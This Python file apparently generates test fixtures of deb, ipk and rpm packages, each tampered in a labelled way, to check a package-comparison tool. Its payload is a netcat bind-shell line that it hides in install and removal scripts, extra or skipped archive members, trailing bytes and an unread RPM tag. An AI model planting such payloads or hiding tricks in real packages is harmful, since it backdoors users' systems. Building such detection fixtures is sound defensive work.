"""Packages: deb, ipk and rpm, with their trees, scripts and wrappings."""

from __future__ import annotations

import hashlib
import lzma
from collections.abc import Iterator
from functools import partial
from typing import Any

from banbury.compare.corpus.pairs import Made, Recipe, attack, harmless
from banbury.compare.corpus.recipes.trees import Form, form_recipes
from banbury.compare.corpus.trees import KIND_BITS, Node, Tree, aged, base
from banbury.compare.corpus.writers import boxes, cpio, packed, tar
from banbury.compare.corpus.writers.signed import key as key_of
from banbury.compare.corpus.writers.signed import openpgp

CONTROL = b"""Package: gate
Version: 2.4.1
Architecture: mips_24kc
Maintainer: The vendor <vendor@example.com>
Depends: libc
Description: Keeps the gate
"""
POSTINST = b"#!/bin/sh\nset -e\n/etc/init.d/gate enable\n"
EVIL = POSTINST + b"nc -l -p 4444 -e /bin/sh &\n"
_SAME = frozenset[str]()


def _control(scripts: dict[str, bytes], control: bytes = CONTROL, mtime: int = 1_500_000_000) -> Tree:
    files = {"control": Node(data=control, mtime=mtime)}
    return files | {name: Node(data=data, mode=0o755, mtime=mtime) for name, data in scripts.items()}


def deb(
    tree: Tree,
    *,
    scripts: dict[str, bytes] | None = None,
    control: bytes = CONTROL,
    mtime: int = 1_500_000_000,
    preset: int = 6,
    how: str = "xz",
    before: bytes = b"",
    after: bytes = b"",
    version: bytes = b"2.0\n",
    tail: bytes = b"",
    uid: int = 0,
) -> bytes:
    """A Debian package (deb(5)); ``before`` and ``after`` are whole members around the data."""
    parts = _control({"postinst": POSTINST} if scripts is None else scripts, control, mtime)
    inner = tar.write({f"./{p}": n for p, n in tree.items()})
    data = {
        "xz": lambda: packed_xz(inner, preset),
        "gz": lambda: packed.gzip(inner, level=9),
        "zst": lambda: packed.zstd(inner),
        "": lambda: inner,
    }[how]()
    members = [
        boxes.ar_member("debian-binary", version, mtime=mtime, uid=uid),
        boxes.ar_member(
            "control.tar.gz", packed.gzip(tar.write({f"./{p}": n for p, n in parts.items()})), mtime=mtime, uid=uid
        ),
    ]
    if before:
        members.append(before)
    members.append(boxes.ar_member("data.tar" + (f".{how}" if how else ""), data, mtime=mtime, uid=uid))
    if after:
        members.append(after)
    return boxes.ar(members) + tail


def packed_xz(data: bytes, preset: int) -> bytes:
    return lzma.compress(data, preset=preset)


def ipk(
    tree: Tree,
    *,
    scripts: dict[str, bytes] | None = None,
    control: bytes = CONTROL,
    level: int = 9,
    mtime: int = 1_500_000_000,
    extra: Tree | None = None,
    tail: bytes = b"",
    first: tuple[str, ...] = ("debian-binary", "control.tar.gz", "data.tar.gz"),
) -> bytes:
    """An OpenWrt package: a compressed tar of what a Debian package holds."""
    parts = _control({"postinst": POSTINST} if scripts is None else scripts, control, mtime)
    members = {
        "debian-binary": Node(data=b"2.0\n", mtime=mtime),
        "control.tar.gz": Node(
            data=packed.gzip(tar.write({f"./{p}": n for p, n in parts.items()}), level=level), mtime=mtime
        ),
        "data.tar.gz": Node(
            data=packed.gzip(tar.write({f"./{p}": n for p, n in tree.items()}), level=level), mtime=mtime
        ),
    }
    outer = {f"./{name}": members[name] for name in first} | (extra or {})
    return packed.gzip(tar.write(outer), level=level, mtime=0) + tail


def rpm(
    tree: Tree,
    *,
    built: int = 1_600_000_000,
    host: bytes = b"laboratory",
    postin: bytes = POSTINST,
    signature: bytes = b"",
    level: int = 9,
    first: int = 1,
    more: list[tuple[int, int, list[bytes]]] | None = None,
    wrong_digest: bool = False,
    tail: bytes = b"",
    stated: Tree | None = None,
    replaced: dict[int, tuple[int, list[bytes] | list[int]]] | None = None,
    signer: str = "",
    gap: bytes = b"",
) -> bytes:
    """An RPM package, version 4. ``stated``: the tree that the header describes, where it is not the payload's;
    ``replaced``: tags with other types and values; ``signer``: whose key signs it; ``gap``: bytes in the header that
    no tag has."""
    payload = packed.gzip(cpio.write({f"./{p}": n for p, n in tree.items()}, first=first), level=level)
    shown = stated or tree
    folders = sorted({"/" + p.rpartition("/")[0] + ("/" if "/" in p else "") for p in shown})
    digest = [hashlib.sha256(n.data).hexdigest().encode() if n.kind == "file" else b"" for n in shown.values()]
    tags: list[tuple[int, int, list[bytes] | list[int] | bytes]] = [
        (1000, 6, [b"gate"]),
        (1001, 6, [b"2.4.1"]),
        (1002, 6, [b"1"]),
        (1004, 9, [b"Keeps the gate"]),
        (1005, 9, [b"It keeps the gate."]),
        (1006, 4, [built]),
        (1007, 6, [host]),
        (1014, 6, [b"GPL"]),
        (1016, 9, [b"System"]),
        (1021, 6, [b"linux"]),
        (1022, 6, [b"mips"]),
        (1024, 6, [postin]),
        (1086, 6, [b"/bin/sh"]),
        (1124, 6, [b"cpio"]),
        (1125, 6, [b"gzip"]),
        (1126, 6, [b"9"]),
        (1028, 4, [len(n.data) for n in shown.values()]),
        (1030, 3, [KIND_BITS[n.kind] | n.mode for n in shown.values()]),
        (1033, 3, [n.rdev[0] << 8 | n.rdev[1] for n in shown.values()]),
        (1034, 4, [n.mtime for n in shown.values()]),
        (1035, 8, digest),
        (1036, 8, [n.link.encode() for n in shown.values()]),
        (1037, 4, [0 for _ in shown]),
        (1039, 8, [b"root" for _ in shown]),
        (1040, 8, [b"root" for _ in shown]),
        (1095, 4, [1 for _ in shown]),
        (1096, 4, list(range(1, len(shown) + 1))),
        (1097, 8, [b"" for _ in shown]),
        (1009, 4, [sum(len(n.data) for n in shown.values())]),
        (1116, 4, [folders.index("/" + p.rpartition("/")[0] + ("/" if "/" in p else "")) for p in shown]),
        (1117, 8, [p.rpartition("/")[2].encode() for p in shown]),
        (1118, 8, [f.encode() for f in folders]),
        (5011, 4, [8]),
        (5092, 8, [hashlib.sha256(payload + (b"x" if wrong_digest else b"")).hexdigest().encode()]),
        (5093, 4, [8]),
    ]
    other = replaced or {}
    tags = [(tag, *other.get(tag, (kind, value))) for tag, kind, value in tags]
    header = boxes.rpm_header([*tags, *(more or [])], region=63, gap=gap)
    signed: list[tuple[int, int, list[bytes] | list[int] | bytes]] = [
        (1000, 4, [len(header) + len(payload)]),
        (1004, 7, hashlib.md5(header + payload).digest()),  # noqa: S324 - the format's
        (269, 6, [hashlib.sha1(header, usedforsecurity=False).hexdigest().encode()]),
        (273, 6, [hashlib.sha256(header).hexdigest().encode()]),
    ]
    if signature or signer:
        signed.append((268, 7, signature or openpgp(key_of(signer), header)))
    box = boxes.rpm_header(signed, region=62)
    return boxes.rpm_lead("gate-2.4.1-1") + box + bytes(-len(box) % 8) + header + payload + tail


VENDOR_TIME = 1_700_000_000

FORMS = (
    Form(
        name="deb",
        lab=deb,
        vendor=lambda t: deb(aged(t), mtime=VENDOR_TIME, preset=1),
        xattrs=True,
        variants=(
            ("time", "clock", "Members and files have other times.", lambda t: deb(aged(t), mtime=VENDOR_TIME)),
            ("level", "compression", "The data are compressed at another level.", lambda t: deb(t, preset=0)),
            ("gzip", "compression", "The data are compressed with gzip.", lambda t: deb(t, how="gz")),
            ("zstd", "compression", "The data are compressed with zstd.", lambda t: deb(t, how="zst")),
            ("user", "user", "The archive's members belong to another user.", lambda t: deb(t, uid=1000)),
        ),
    ),
    Form(
        name="ipk",
        lab=ipk,
        vendor=lambda t: ipk(aged(t), mtime=VENDOR_TIME, level=6),
        xattrs=True,
        variants=(
            ("time", "clock", "Members and files have other times.", lambda t: ipk(aged(t), mtime=VENDOR_TIME)),
            ("level", "compression", "Compressed at another level.", lambda t: ipk(t, level=1)),
        ),
    ),
    Form(
        name="rpm",
        lab=rpm,
        vendor=lambda t: rpm(aged(t), built=VENDOR_TIME, host=b"buildserver", level=6, first=100),
        variants=(
            ("host", "user", "The header names another host.", lambda t: rpm(t, host=b"buildserver")),
            ("time", "clock", "The header has another time of build.", lambda t: rpm(t, built=VENDOR_TIME)),
            ("files", "clock", "Files have other times.", lambda t: rpm(aged(t))),
            ("level", "compression", "The payload is compressed at another level.", lambda t: rpm(t, level=1)),
        ),
        # the header states owners by name
        without=frozenset({"owner", "group"}),
    ),
)


def _vendor_deb(**more: Any) -> bytes:
    return deb(aged(base()), **{"mtime": VENDOR_TIME, "preset": 1, **more})


def _deb(changes: frozenset[str] | None = _SAME, good: bool = True, **more: Any) -> Made:
    return Made(a=deb(base()), b=_vendor_deb(**more), base=_vendor_deb(), changes=changes, well_formed=good)


def _ipk(changes: frozenset[str] | None = _SAME, good: bool = True, **more: Any) -> Made:
    def vendor(**options: Any) -> bytes:
        return ipk(aged(base()), **{"mtime": VENDOR_TIME, "level": 6, **options})

    return Made(a=ipk(base()), b=vendor(**more), base=vendor(), changes=changes, well_formed=good)


def _rpm(good: bool = True, tree: Tree | None = None, **more: Any) -> Made:
    def vendor(nodes: Tree, **options: Any) -> bytes:
        fixed = {"built": VENDOR_TIME, "host": b"buildserver", "level": 6, "first": 100}
        return rpm(nodes, **{**fixed, **options})

    clean = aged(base())
    return Made(a=rpm(base()), b=vendor(tree or clean, **more), base=vendor(clean), well_formed=good)


def _second_data() -> bytes:
    tree = {"./etc/init.d/S99": Node(mode=0o755, data=EVIL)}
    return boxes.ar_member("data.tar.gz", packed.gzip(tar.write(tree)), mtime=VENDOR_TIME)


def _payload_only() -> Tree:
    """The payload's script is another than the header describes."""
    tree = aged(base())
    path = "etc/init.d/S50gate"
    return {**tree, path: tree[path].but(data=tree[path].data.replace(b"start", b"shell"))}


def recipes() -> Iterator[Recipe]:
    for form in FORMS:
        yield from form_recipes(form)
    control = CONTROL.replace(b"Depends: libc", b"Pre-Depends: debug-shell")
    rows = (
        (
            "deb",
            "postinst",
            "resource",
            "The script that runs as root after installation opens a shell.",
            partial(_deb, frozenset({"postinst:content"}), scripts={"postinst": EVIL}),
        ),
        (
            "deb",
            "preinst",
            "resource",
            "A script that runs before installation is added.",
            partial(_deb, frozenset({"preinst:+"}), scripts={"postinst": POSTINST, "preinst": EVIL}),
        ),
        (
            "deb",
            "triggers",
            "resource",
            "A trigger makes the script run whenever another package is installed.",
            partial(
                _deb,
                frozenset({"triggers:+"}),
                scripts={"postinst": POSTINST, "triggers": b"interest-noawait /usr/bin\n"},
            ),
        ),
        (
            "deb",
            "depends",
            "resource",
            "Another package is required.",
            partial(_deb, frozenset({"control:content"}), control=control),
        ),
        (
            "deb",
            "second-data",
            "extra-member",
            "A second data member, which some tools unpack instead.",
            partial(_deb, None, before=_second_data()),
        ),
        (
            "deb",
            "second-data-behind",
            "extra-member",
            "A second data member stands behind the first.",
            partial(_deb, None, after=_second_data()),
        ),
        (
            "deb",
            "underscore",
            "extra-member",
            "A member whose name begins with an underscore, which dpkg skips.",
            partial(_deb, None, before=boxes.ar_member("_payload", EVIL)),
        ),
        ("deb", "trailing", "trailing", "Bytes stand behind the last member.", partial(_deb, None, tail=EVIL)),
        ("deb", "version", "header", "The format's version is another.", partial(_deb, None, version=b"2.1\n")),
        (
            "ipk",
            "postinst",
            "resource",
            "The script that runs as root after installation opens a shell.",
            partial(_ipk, frozenset({"postinst:content"}), scripts={"postinst": EVIL}),
        ),
        (
            "ipk",
            "prerm",
            "resource",
            "A script that runs on removal is added.",
            partial(_ipk, frozenset({"prerm:+"}), scripts={"postinst": POSTINST, "prerm": EVIL}),
        ),
        (
            "ipk",
            "conffiles",
            "resource",
            "A list makes the installer keep a tampered configuration.",
            partial(_ipk, frozenset({"conffiles:+"}), scripts={"postinst": POSTINST, "conffiles": b"/etc/shadow\n"}),
        ),
        (
            "ipk",
            "member",
            "extra-member",
            "One more member beside the three.",
            partial(_ipk, None, extra={"./data.tar.xz": Node(data=b"\xfd7zXZ\0" + EVIL)}),
        ),
        ("ipk", "trailing", "trailing", "Bytes stand behind the stream.", partial(_ipk, None, good=False, tail=EVIL)),
        (
            "rpm",
            "postin",
            "resource",
            "The script that runs as root after installation opens a shell.",
            partial(_rpm, postin=EVIL),
        ),
        (
            "rpm",
            "prein",
            "resource",
            "A script that runs before installation is added.",
            partial(_rpm, more=[(1023, 6, [EVIL]), (1085, 6, [b"/bin/sh"])]),
        ),
        (
            "rpm",
            "trigger",
            "resource",
            "Another package is required.",
            partial(_rpm, more=[(1049, 8, [b"debug-shell"]), (1050, 8, [b""])]),
        ),
        (
            "rpm",
            "payload",
            "mismatch",
            "The payload's script is not the one that the header describes.",
            partial(_rpm, tree=_payload_only(), stated=aged(base()), good=False),
        ),
        (
            "rpm",
            "digest",
            "checksum",
            "The payload's digest in the header is wrong.",
            partial(_rpm, wrong_digest=True, good=False),
        ),
        ("rpm", "trailing", "trailing", "Bytes stand behind the payload.", partial(_rpm, tail=EVIL, good=False)),
        (
            "rpm",
            "unknown-tag",
            "hidden-space",
            "A tag that nothing reads holds something.",
            partial(_rpm, more=[(60_000, 6, [EVIL])]),
        ),
    )
    for form_name, key, group, note, make in rows:
        yield attack(f"{form_name}-{key}", form_name, group, note, make)
    yield harmless(
        "ipk-same-order",
        "ipk",
        "order",
        "The outer members stand in another order.",
        partial(_ipk, first=("debian-binary", "data.tar.gz", "control.tar.gz")),
    )
    yield harmless(
        "rpm-same-signature",
        "rpm",
        "signature",
        "The header has a signature that nothing declared can verify.",
        partial(_rpm, signature=b"\x89\x01" + bytes(70)),
        expected={"equivalent/metadata", "unexplained"},
    )
